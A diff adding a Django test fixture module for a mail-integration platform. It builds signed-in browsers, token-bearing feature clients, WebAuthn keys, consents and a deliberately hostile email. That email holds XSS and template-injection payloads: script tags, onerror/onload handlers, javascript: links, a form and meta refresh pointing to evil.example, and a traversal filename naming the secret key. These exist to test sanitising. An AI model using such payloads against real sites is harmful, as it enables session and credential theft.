@@ -1,0 +1,247 @@
+"""Who calls: people in browsers, platform features with tokens, and what Alice's mailbox holds."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from datetime import timedelta
+from email.message import EmailMessage
+from uuid import UUID
+
+from allauth.account.internal.flows.login import record_authentication
+from allauth.account.models import EmailAddress
+from allauth.mfa.models import Authenticator
+from cryptography.hazmat.primitives.asymmetric import ec
+from django.db import transaction
+from django.http import HttpRequest
+from django.test import Client
+from django.utils import timezone
+from fido2.cose import ES256
+from fido2.utils import websafe_encode
+from fido2.webauthn import (
+    AttestationObject,
+    AttestedCredentialData,
+    AuthenticatorData,
+    CollectedClientData,
+)
+
+from accounts import clients, delegations, tokens
+from accounts.ids import uuid7
+from accounts.models import Delegation, ServiceClient, User
+from integrations import places
+from integrations.mime import raw
+from integrations.models import Attachment
+from integrations.places import Place
+from limited_use import consents
+from limited_use.features import FEATURES, register_client
+from limited_use.ledger import entries
+from limited_use.models import Consent
+from limited_use.vault.sealing import sealer
+from tests.accounts.cast import EC
+from tests.integrations.household import Household
+
+KEYS = {"keys": [EC.as_dict(private=False)]}
+# The click on the page before consent, as the page sends it.
+AGREED = {"agree": "yes", "version": f"inbox:{FEATURES['inbox'].version}"}
+# What a mailbox in memory calls the first that was delivered.
+FIRST = "m00000000"
+SWITCH_ON = {"agree": "yes", "version": str(FEATURES["inbox-widget"].version)}
+# In every place of Alice's mail that a page or an answer shows.
+MARKER = "zx-marker-7741"
+SCRIPT = "<script>alert(1)</script>"
+TEMPLATE = "{{7*7}}{% now 'Y' %}"
+SUBJECT = f"{MARKER} {SCRIPT} {TEMPLATE} \"'>&amp;"
+NAME = f"{MARKER} <img src=x onerror=alert(1)> {TEMPLATE}"
+FILE = f"<svg onload=alert(1)>/../{MARKER}{{{{settings.SECRET_KEY}}}}'&quot; &amp;.html"
+TEXT = f"{MARKER} {TEMPLATE} <b>plain</b>"
+HTML = f"""<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
+<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
+<style>body{{background:url(https://evil.example/p.png)}}</style></head>
+<body onload="steal()"><p onclick="steal()">{MARKER} {TEMPLATE}</p>{SCRIPT}
+<a href="javascript:steal()">one</a><a href="https://good.example/">two</a>
+<img src="https://evil.example/p.png" srcset="https://evil.example/2.png 2x" onerror="steal()">
+<iframe src="https://evil.example/"></iframe><svg onload="steal()"><script>steal()</script></svg>
+<form action="https://evil.example/"><input name="password"><button>Go</button></form>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">
+<object data="https://evil.example/"></object><embed src="https://evil.example/">
+<div style="position:fixed;top:0;left:0;width:100%;height:100%">over</div></body></html>"""
+# What may stand nowhere as markup, whatever it was escaped from.
+MARKUP = (
+    b"<script>alert", b"<img src=x", b"<svg onload", b"onerror=steal", b'onerror="steal',
+    b"javascript:steal", b'"steal()"',
+)  # fmt: skip
+
+
+def hostile_mail() -> bytes:
+    """Return a mail with markup and template tags in every place that is shown."""
+    mail = EmailMessage()
+    mail["From"] = f'"{NAME}" <bob@example.test>'.replace('""', '"')
+    mail["To"] = "alice@gmail.example"
+    mail["Subject"] = SUBJECT
+    mail["Message-ID"] = f"<{MARKER}@example.test>"
+    mail.set_content(TEXT)
+    mail.add_alternative(HTML, subtype="html")
+    mail.add_attachment(
+        f"<script>{MARKER}</script>".encode(), maintype="text", subtype="html", filename=FILE
+    )
+    return bytes(mail)
+
+
+def fill(house: Household, mailbox, *, count: int = 6) -> None:
+    """Bring the hostile mail and `count` plain ones in, by a sync; an hour between any two."""
+    now = timezone.now().replace(microsecond=0)
+    mailbox.deliver(
+        hostile_mail(), at=now - timedelta(hours=1), label_ids=("INBOX", "UNREAD", "STARRED")
+    )
+    for hour in range(count):
+        mailbox.deliver(
+            at=now - timedelta(hours=hour + 2),
+            thread="long" if hour < 2 else None,
+            label_ids=("INBOX", "UNREAD") if hour % 2 else ("SENT",),
+        )
+    house.settle()
+
+
+@dataclass
+class Owned:
+    """Ids of something of Alice's, as they stand in addresses."""
+
+    user: str
+    message: str
+    thread: str
+    attachment: str
+    connection: str
+    integration: str
+
+
+def owned(house: Household) -> Owned:
+    attachment = Attachment.objects.get(integration_id=house.integration.id)
+    return Owned(
+        str(house.user.id),
+        str(attachment.message_id),
+        str(attachment.message.thread_id),
+        str(attachment.id),
+        str(house.connection.id),
+        str(house.integration.id),
+    )
+
+
+def elsewhere(house: Household) -> Place:
+    """Return where a file of the hostile mail is at the provider, as a search leads to it."""
+    (part,) = (one.part for one in raw.parse(hostile_mail()).attachments)
+    key = sealer(holder=house.integration.id, epoch=house.integration.epoch)
+    return places.place(key, {"id": FIRST, "part": part, "filename": "plan.html"})
+
+
+def browser(user: User, *, mfa: bool = False, recent: bool = False, strict: bool = False) -> Client:
+    """Return a signed-in browser; `recent`ly confirmed, with a second factor, if asked."""
+    client = Client(enforce_csrf_checks=strict)
+    client.force_login(user)
+    request = HttpRequest()
+    request.session = client.session
+    record_authentication(request, user, "password", reauthenticated=recent)
+    if mfa:
+        record_authentication(request, user, "mfa", type="totp", reauthenticated=recent)
+    request.session.save()
+    return client
+
+
+def verified(user: User, *, verified: bool = True) -> None:
+    """Say whether the platform vouches for a person's address, as provisioning does."""
+    EmailAddress.objects.update_or_create(
+        user=user, email=user.email, defaults={"verified": verified, "primary": True}
+    )
+
+
+def security_key(user: User) -> Authenticator:
+    """Return a WebAuthn key of that person, named with the marker; it cannot sign."""
+    public = ec.generate_private_key(ec.SECP256R1()).public_key()
+    attested = AttestedCredentialData.create(
+        aaguid=bytes(16),
+        credential_id=user.id.bytes,
+        public_key=ES256.from_cryptography_key(public),
+    )
+    flags = AuthenticatorData.FLAG.UP | AuthenticatorData.FLAG.UV | AuthenticatorData.FLAG.AT
+    data = AuthenticatorData.create(bytes(32), flags, 0, bytes(attested))
+    client_data = CollectedClientData.create(
+        CollectedClientData.TYPE.CREATE, challenge=bytes(32), origin="http://localhost:8000"
+    )
+    credential = {
+        "id": websafe_encode(user.id.bytes),
+        "rawId": websafe_encode(user.id.bytes),
+        "type": "public-key",
+        "clientExtensionResults": {},
+        "response": {
+            "clientDataJSON": websafe_encode(client_data),
+            "attestationObject": websafe_encode(AttestationObject.create("none", data, {})),
+        },
+    }
+    return Authenticator.objects.create(
+        user=user,
+        type=Authenticator.Type.WEBAUTHN,
+        data={"name": MARKER, "passwordless": False, "credential": credential},
+    )
+
+
+def widget() -> ServiceClient:
+    """Return the platform feature that shows a person's inbox elsewhere."""
+    known = ServiceClient.objects.filter(client_id="inbox-widget").first()
+    return known or register_client(
+        feature="inbox-widget", purposes=["inbox.display"], jwks=KEYS, at=timezone.now()
+    )
+
+
+def campaigns() -> ServiceClient:
+    """Return a client whose row names a purpose that its feature never declared."""
+    return clients.create(
+        client_id="campaigns",
+        feature="campaigns",
+        purposes=["marketing"],
+        jwks=KEYS,
+        at=timezone.now(),
+    )
+
+
+def switch_on(house: Household, client: ServiceClient) -> Delegation:
+    return delegations.switch_on(
+        user_id=house.user.id,
+        organisation_id=house.organisation.id,
+        feature=client.feature,
+        feature_version=FEATURES[client.feature].version,
+        at=timezone.now(),
+    )
+
+
+def one_item(house: Household) -> Consent:
+    """Return an agreement that support reads one item, for an hour."""
+    at = timezone.now()
+    with transaction.atomic():
+        return consents.give(
+            person_id=house.user.id,
+            organisation_id=house.organisation.id,
+            feature="support",
+            version=FEATURES["support"].version,
+            item=uuid7(),
+            at=at,
+            expires_at=at + timedelta(hours=1),
+        )
+
+
+def entry(house: Household) -> UUID:
+    """Return an entry of the ledger that is about the person's mailbox."""
+    return entries.record(
+        event="integration.connected", about=house.integration.id, at=timezone.now()
+    )
+
+
+def feature(
+    client: ServiceClient, delegation: Delegation, purpose: str = "inbox.display"
+) -> Client:
+    """Return a caller with a fresh token of that feature, for the delegation's person."""
+    token = tokens.mint(
+        client=client, delegation_id=delegation.id, purpose=purpose, at=timezone.now()
+    )
+    return bearer(token)
+
+
+def bearer(token: str) -> Client:
+    return Client(headers={"Authorization": f"Bearer {token}"})
